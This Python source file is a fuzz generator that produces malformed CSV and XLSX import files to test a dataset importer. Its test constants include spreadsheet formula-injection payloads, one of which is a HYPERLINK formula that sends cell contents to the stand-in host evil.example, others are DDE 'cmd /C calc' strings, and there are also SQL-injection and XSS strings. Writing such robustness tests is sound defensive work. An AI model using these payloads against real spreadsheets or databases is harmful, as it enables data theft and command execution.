"""Random and malformed import files for the twelve datasets, in CSV and XLSX: the fuzz's generator.

`fuzz_file(dataset, rng)` draws one file from the dataset's description
(`safeplan.datasets.schema`): rows that are valid for it, a share of them
mutated cell by cell (wrong types, NULs and control characters, very long
cells, formula-looking text, dates and times in every wrong shape, numbers too
large for the database, unknown codes, duplicated ids), and now and then a
damaged header (missing, repeated, unknown or blank columns) or damage to the
file as a whole (wrong encodings, NUL bytes, a cut-off end, flipped bytes,
semicolons for commas, a CSV file named .xlsx). The same generator runs small
under Hypothesis in the tests, which hands it its `random.Random`, and large in
``python -m benchmarks fuzz``.

    file = fuzz_file("referrals", random.Random(7), rows=100)
    path = file.write(folder / f"referrals.{file.fmt}")
"""

from __future__ import annotations

import csv
import io
import random
import string
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from pathlib import Path

import openpyxl
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from safeplan.datasets.schema import DATASETS, Column, ColumnType, Dataset

Cell = str | int | float | bool | date | datetime | time | None
Rng = random.Random
FIRST_DAY = date(2016, 4, 1)
DAYS = 4 * 365
# The share of valid date-times drawn in the hours the clocks change: stored as instants,
# such a row broke the database's own "missing_end not before missing_start" check.
CLOCK_CHANGES = 0.02

FORMULAS = (
    '=HYPERLINK("https://evil.example/?q="&A1,"Open")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
    "=",
    "=A1:XFD1048576",
)
WRONG_DATES = (
    "31/02/2019", "2019-02-30", "2019/04/01", "04/31/2019", "13/13/2019", "1 April 2019",
    "April 1, 2019", "20190401", "2019-4-1", "01-04-2019", "1/4/19", "2019-13-01", "0000-00-00",
    "9999-12-31", "1899-12-31", "2101-01-01", "43556", "43556.5", "-1", "2019-04-01T25:00",
    "2019-04-01 24:00", "2019-04-01 12:60", "2019-04-01 12:00:61", "2019-04-01 12:00:00+01:00",
    "2019-04-01Z", "2019-04-01 12:00 PM", "2019-04-01 1200", "2019-04-01T", "T12:00", "12:00",
    "２０１９-０４-０１", "2019‐04‐01", "2019 -04-01", "now", "yesterday", "N/A", "NULL", "-",
    "01/04/2019 12:00:00.123456789", "2019-04-01 12:00:00.5", "99/99/9999 99:99",
    "2019-02-29", "2100-02-29", "2000-02-29", "2019-06-31 10:00", "00/00/0000",
)  # fmt: skip
WRONG_NUMBERS = (
    "9" * 30, "-" + "9" * 20, "2147483648", "-2147483649", "9223372036854775808", "1e309",
    "-1e309", "nan", "inf", "-inf", "1,000", "0x10", "1_000", "½", "٣", "12.5", "-0", "+7",
    " 12 ", "1e3", "", "twelve", "4.0000", "3.9999999999999999",
)  # fmt: skip
ODD_TEXT = (
    "\x01\x02\x03", "\x1b[31mred", "\u202eevil", "\ufeffBOM", "😀" * 10,
    "e\u0301" * 5, "𝕏𝕐", "\u2028line", "tab\there", "new\nline", 'say "hi"', "semi;colon",
    "comma,comma", "\\N", "<script>alert(1)</script>", "' OR 1=1 --", "Robert'); DROP TABLE x;--",
    "\u00a0", "   ", "NULL", "None", "undefined", "_x0000_", "&lol9;", "]]>",
)  # fmt: skip
XLSX_VALUES: tuple[Cell, ...] = (
    True, False, 0, -1, 2**31, 2**70, -(2**63), 1e308, -1e308, 0.1, 1e-300,
    date(1900, 1, 1), date(1850, 6, 1), date(2200, 1, 1), datetime(2019, 4, 1, 12, 30),
    datetime(1901, 1, 1), time(12, 30), time(0, 0),
)  # fmt: skip
CLOCK_SHAPES = ("%Y-%m-%d %H:%M", "%Y-%m-%dT%H:%M:%S", "%d/%m/%Y %H:%M", "%Y-%m-%d %H:%M:%S")
DATE_SHAPES = ("%Y-%m-%d", "%d/%m/%Y")
FLAGS = ("Y", "N", "y", "n", "Yes", "No", "TRUE", "false", "1", "0")


# --- valid values --------------------------------------------------------------------------------


def _day(rng: Rng) -> date:
    return FIRST_DAY + timedelta(days=rng.randrange(DAYS))


def _moment(rng: Rng, after: datetime | None = None, clock_changes: float = 0.0) -> datetime:
    if after is not None:
        span = 90 if after.hour == 1 else 60 * 24 * 30  # from a clock change, across it
        return after + timedelta(minutes=rng.randrange(0, span))
    if rng.random() < clock_changes:
        return clock_change(rng)
    return datetime.combine(_day(rng), time(rng.choice([0, 3, 9, 12, 17, 23]), rng.randrange(60)))


def clock_change(rng: Rng) -> datetime:
    """A time in the hour the clocks skip (last Sunday of March) or repeat (of October), 01:xx."""
    year, month = rng.randrange(2016, 2021), rng.choice([3, 10])
    sunday = max(d for d in (date(year, month, day) for day in range(25, 32)) if d.weekday() == 6)
    return datetime.combine(sunday, time(1, rng.randrange(60)))


def _written(value: date, rng: Rng, xlsx: bool) -> Cell:
    if xlsx and rng.random() < 0.5:
        return value  # a date or date-time cell
    if isinstance(value, datetime):
        return value.strftime(rng.choice(CLOCK_SHAPES))
    return value.strftime(rng.choice(DATE_SHAPES))


def _code(column: Column, rng: Rng) -> str:
    code = rng.choice([*column.codes, *column.aliases])
    return rng.choice([code, code.lower(), code.upper(), f" {code} "])


def _text(rng: Rng, limit: int) -> str:
    words = [rng.choice(["Durham", "Police", "school", "Health", "youth club", "North"])
             for _ in range(rng.randrange(1, 4))]  # fmt: skip
    return " ".join(words)[:limit]


def _int(column: Column, rng: Rng, xlsx: bool) -> Cell:
    low = column.min_value if column.min_value is not None else 0
    high = column.max_value if column.max_value is not None else low + 500_000
    value = rng.randint(low, high)
    shapes: list[Cell] = [str(value), f"{value}.0"]
    if xlsx:
        shapes += [value, float(value)]
    return rng.choice(shapes)


@dataclass
class _RowMaker:
    """Valid rows of one dataset: unique keys, dates in order, codes from the description."""

    dataset: Dataset
    rng: Rng
    xlsx: bool
    salt: str
    clock_changes: float = CLOCK_CHANGES

    def row(self, n: int) -> dict[str, Cell]:
        values: dict[str, Cell] = {}
        moments: dict[str, date] = {}
        for col in self.dataset.columns:
            if not col.required and self.rng.random() < 0.15:
                values[col.name] = rng_blank(self.rng)
                continue
            values[col.name] = self._value(col, n, moments)
        return values

    def _value(self, col: Column, n: int, moments: dict[str, date]) -> Cell:
        rng = self.rng
        if col.type in (ColumnType.DATE, ColumnType.DATETIME):
            moments[col.name] = self._moment(col, moments.get(col.not_before or ""))
            return _written(moments[col.name], rng, self.xlsx)
        if col.type is ColumnType.ID:
            if col.name in self.dataset.keys:
                return f"{col.name[:2].upper()}{self.salt}-{n}"
            return f"C{rng.randrange(5_000)}"
        if col.type is ColumnType.FLAG:
            return rng.choice([*FLAGS, True, False]) if self.xlsx else rng.choice(FLAGS)
        if col.type is ColumnType.CODE:
            return _code(col, rng)
        if col.type is ColumnType.CODE_LIST:
            codes = (_code(col, rng) for _ in range(rng.randrange(1, 4)))
            return rng.choice([";", ",", "; "]).join(codes)
        if col.type is ColumnType.INT:
            if col.name == "year":  # population's key, with locality: unique in the file
                year = 1900 + n % 201
                return year if self.xlsx and rng.random() < 0.5 else str(year)
            return _int(col, rng, self.xlsx)
        if col.name == "locality" and "year" in self.dataset.keys:
            return f"Locality {self.salt} {n // 201}"
        return _text(rng, col.max_length or 200)

    def _moment(self, col: Column, start: date | None) -> date:
        """A date or date-time, not before `start` (the column it may not precede) when given."""
        if col.type is ColumnType.DATETIME:
            after = start if isinstance(start, datetime) else None
            return _moment(self.rng, after, self.clock_changes)
        if start is None:
            return _day(self.rng)
        return start + timedelta(days=self.rng.randrange(400))


def rng_blank(rng: Rng) -> Cell:
    return rng.choice(["", " ", None])


# --- mutations -----------------------------------------------------------------------------------


def _long(rng: Rng) -> str:
    length = rng.choice([65, 201, 1_000, 10_000, 32_767])  # 32,767: the most an Excel cell holds
    return rng.choice(string.ascii_letters) * length


def _random_text(rng: Rng) -> str:
    alphabet = string.printable + "é€😀\u202e\x7f\u0301\ufffd"
    return "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 30)))


def _file_killer(rng: Rng) -> str:
    """A cell that makes the whole file unreadable: once in a while, not in every row.

    A NUL or a lone surrogate (no UTF-8 encodes it) in CSV, or a cell past the
    csv module's 131,072 characters.
    """
    return rng.choice(["a\x00b", "x\ud800y", "z" * 140_000])


def _duplicate_key(
    rows: list[dict[str, Cell]], dataset: Dataset, row: dict[str, Cell], rng: Rng
) -> None:
    if rows:
        other = rng.choice(rows)
        for key in dataset.keys:
            row[key] = other.get(key)


MUTATIONS: dict[str, Callable[[Rng], Cell]] = {
    "blank": rng_blank,
    "long": _long,
    "formula": lambda rng: rng.choice(FORMULAS),
    "wrong date": lambda rng: rng.choice(WRONG_DATES),
    "wrong number": lambda rng: rng.choice(WRONG_NUMBERS),
    "odd text": lambda rng: rng.choice(ODD_TEXT),
    "random text": _random_text,
    "xlsx type": lambda rng: rng.choice(XLSX_VALUES),
}


def _wrong_for(column: Column, rng: Rng) -> Cell:
    """A value this column refuses: text accepts almost anything, except length or a blank."""
    if column.type in (ColumnType.ID, ColumnType.TEXT):
        too_long = rng.choice(string.ascii_letters) * (
            (column.max_length or 200) + rng.choice([1, 50])
        )
        return rng_blank(rng) if column.required and rng.random() < 0.3 else too_long
    names = [n for n in MUTATIONS if n != "blank" or column.required]
    return MUTATIONS[rng.choice(names)](rng)


def _mutate(row: dict[str, Cell], dataset: Dataset, rows: list[dict[str, Cell]], rng: Rng) -> None:
    """Give the row one to three malformed values (mostly ones its columns refuse), or a key used."""
    for _ in range(rng.choice([1, 1, 1, 2, 3])):
        if rng.random() < 0.05:
            _duplicate_key(rows, dataset, row, rng)
            continue
        column = rng.choice(dataset.columns)
        if rng.random() < 0.7:
            row[column.name] = _wrong_for(column, rng)
        else:  # anything odd, which some columns accept (formula-looking text is valid text)
            row[column.name] = MUTATIONS[rng.choice(list(MUTATIONS))](rng)


# --- headers and whole files ---------------------------------------------------------------------


def _header(dataset: Dataset, rng: Rng) -> tuple[list[Cell], str]:
    names: list[Cell] = list(dataset.column_names)
    rng.shuffle(names)
    if rng.random() < 0.3:
        names = [rng.choice([n, str(n).upper(), f" {n} ", str(n).replace("_", " ")]) for n in names]
    if rng.random() > 0.15:
        return names, ""
    damage = rng.choice(["missing", "repeated", "unknown", "blank", "only data", "typo"])
    position = rng.randrange(len(names))
    if damage == "missing":
        del names[position]
    elif damage == "repeated":
        names.append(names[position])
    elif damage == "unknown":
        names.insert(position, rng.choice(["notes", "=cmd", "Unnamed: 0", _random_text(rng)]))
    elif damage == "blank":
        names.insert(position, rng.choice(["", None, " "]))
    elif damage == "typo":
        names[position] = str(names[position])[:-1] + "x"
    return names, f"header {damage}"


CSV_DAMAGE = (
    "latin-1", "utf-16", "utf-16-le", "utf-8-sig", "invalid utf-8", "nul byte", "cut short",
    "flipped bytes", "cr only", "semicolons", "open quote", "one long line", "empty", "binary",
)  # fmt: skip
XLSX_DAMAGE = ("cut short", "flipped bytes", "csv inside", "empty", "other sheet", "two sheets")


@dataclass
class FuzzFile:
    """One file to import: what it holds, how it is written, and what was done to it."""

    dataset: str
    fmt: str
    header: list[Cell]
    rows: list[list[Cell]]
    malformed_rows: int
    damage: list[str]
    covers: tuple[date, date] | None
    seed: int

    def write(self, path: Path) -> Path:
        """Write the file to `path` (its suffix is the caller's: a CSV may be named .xlsx)."""
        rng = random.Random(self.seed)
        data = self._xlsx(rng) if self.fmt == "xlsx" else self._csv(rng)
        path.write_bytes(data)
        return path

    def _csv(self, rng: Rng) -> bytes:
        text = io.StringIO()
        delimiter = ";" if "semicolons" in self.damage else ","
        ending = "\r" if "cr only" in self.damage else rng.choice(["\r\n", "\n"])
        writer = csv.writer(text, delimiter=delimiter, lineterminator=ending)
        if self.header:
            writer.writerow(_csv_cells(self.header))
        writer.writerows(_csv_cells(row) for row in self.rows)
        body = text.getvalue()
        if "open quote" in self.damage:
            body = body[: len(body) // 2] + '"' + body[len(body) // 2 :]
        if "one long line" in self.damage:
            body = body.replace(ending, ",") + "x" * 1_100_000
        return _damaged(_encoded(body, self.damage), self.damage, rng)

    def _xlsx(self, rng: Rng) -> bytes:
        if "csv inside" in self.damage:
            return self._csv(rng)
        book = openpyxl.Workbook(write_only=True)
        if "two sheets" in self.damage:
            book.create_sheet("Notes").append(["see the other sheet"])
        name = "Data" if "other sheet" in self.damage else rng.choice([self.dataset, "Sheet1"])
        sheet = book.create_sheet(name)
        if self.header:
            sheet.append([_xlsx_cell(c) for c in self.header])
        for row in self.rows:
            sheet.append([_xlsx_cell(c) for c in row])
        out = io.BytesIO()
        book.save(out)
        return _damaged(out.getvalue(), self.damage, rng)


def _csv_cells(cells: list[Cell]) -> list[str]:
    return [
        "" if c is None else c.isoformat() if isinstance(c, date | time) else str(c) for c in cells
    ]


def _xlsx_cell(cell: Cell) -> Cell:
    if isinstance(cell, str):
        # openpyxl refuses characters XML cannot hold; write them as Excel's escape does.
        return ILLEGAL_CHARACTERS_RE.sub(
            lambda m: f"_x{ord(m.group()):04X}_", cell.replace("\ud800", "?")
        )
    return cell


def _encoded(text: str, damage: list[str]) -> bytes:
    for name in ("latin-1", "utf-16", "utf-16-le", "utf-8-sig"):
        if name in damage:
            return (text + "é").encode(name, errors="replace")
    return text.encode("utf-8", errors="surrogatepass")  # a lone surrogate is invalid UTF-8


def _damaged(data: bytes, damage: list[str], rng: Rng) -> bytes:
    if "invalid utf-8" in damage:
        data = data + b"\xff\xfe\xc3"
    if "nul byte" in damage:
        at = rng.randrange(len(data) + 1)
        data = data[:at] + b"\x00" + data[at:]
    if "cut short" in damage:
        data = data[: rng.randrange(len(data) + 1)]
    if "flipped bytes" in damage and data:
        mutable = bytearray(data)
        for _ in range(rng.randrange(1, 8)):
            mutable[rng.randrange(len(mutable))] = rng.randrange(256)
        data = bytes(mutable)
    if "binary" in damage:
        data = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4_000)))
    if "empty" in damage:
        data = rng.choice([b"", b"\xef\xbb\xbf", b"\r\n\r\n"])
    return data


def _covers(dataset: Dataset, rng: Rng) -> tuple[date, date] | None:
    wanted = dataset.covers_required or (dataset.windowed and rng.random() < 0.3)
    if rng.random() < 0.03:
        wanted = not wanted  # a window where none is allowed, or none where one is needed
    if not wanted:
        return None
    start = _day(rng)
    length = rng.randrange(-5, 0) if rng.random() < 0.05 else rng.randrange(400)  # or reversed
    return start, start + timedelta(days=length)


def _canonical(name: Cell) -> str:
    return str(name).strip().lower().replace(" ", "_")


def fuzz_file(
    dataset: str,
    rng: Rng,
    *,
    rows: int,
    fmt: str | None = None,
    rate: float | None = None,
    clock_changes: float = CLOCK_CHANGES,
) -> FuzzFile:
    """A file of `rows` rows for `dataset`, a share `rate` of them mutated (drawn when not given).

    `clock_changes` is the share of valid date-times drawn in a clock-change hour.
    """
    ds = DATASETS[dataset]
    fmt = fmt or rng.choice(["csv", "xlsx"])
    rate = rng.choice([0.0, 0.0, 0.01, 0.1, 0.5, 1.0]) if rate is None else rate
    salt = f"{rng.randrange(10**6):06d}"
    maker = _RowMaker(ds, rng, fmt == "xlsx", salt, clock_changes)
    records: list[dict[str, Cell]] = []
    malformed = 0
    for n in range(rows):
        record = maker.row(n)
        if rng.random() < rate:
            _mutate(record, ds, records, rng)
            malformed += 1
        records.append(record)
    if records and rng.random() < 0.05:
        record = rng.choice(records)
        record[rng.choice(ds.column_names)] = _file_killer(rng)
    names, header_damage = _header(ds, rng)
    only_data = header_damage == "header only data"
    order = list(ds.column_names) if only_data else names
    cells = [[record.get(_canonical(name), "x") for name in order] for record in records]
    if rng.random() < 0.03 and cells:
        cells[rng.randrange(len(cells))].append(
            rng.choice(["stray", "=1+2", 5])
        )  # beyond the header
    damage = [header_damage] if header_damage else []
    if rng.random() < 0.08:
        damage.append(rng.choice(XLSX_DAMAGE if fmt == "xlsx" else CSV_DAMAGE))
    header = [] if only_data else names
    return FuzzFile(
        dataset, fmt, header, cells, malformed, damage, _covers(ds, rng), rng.randrange(2**32)
    )


def mutated_table(
    name: str, header: list[str], valid: list[dict[str, Cell]], rng: Rng, *, fmt: str | None = None
) -> FuzzFile:
    """Another importer's file (actions, comparator values): `valid` rows, mutated at random.

    The header may lose, repeat or gain a column; the cells get the same
    mutations as the datasets'; now and then the file as a whole is damaged.
    """
    fmt = fmt or rng.choice(["csv", "xlsx"])
    names: list[Cell] = list(header)
    rng.shuffle(names)
    if rng.random() < 0.1:
        del names[rng.randrange(len(names))]
    if rng.random() < 0.1:
        names.insert(rng.randrange(len(names) + 1), rng.choice(["notes", "=cmd", "", names[0]]))
    rows, malformed = [], 0
    rate = rng.choice([0.0, 0.2, 1.0])
    for record in valid:
        record = dict(record)
        if rng.random() < rate:
            column = rng.choice(header)
            record[column] = MUTATIONS[rng.choice(list(MUTATIONS))](rng)
            malformed += 1
        rows.append([record.get(str(n), "x") for n in names])
    damage = (
        [rng.choice(XLSX_DAMAGE if fmt == "xlsx" else CSV_DAMAGE)] if rng.random() < 0.08 else []
    )
    return FuzzFile(name, fmt, names, rows, malformed, damage, None, rng.randrange(2**32))
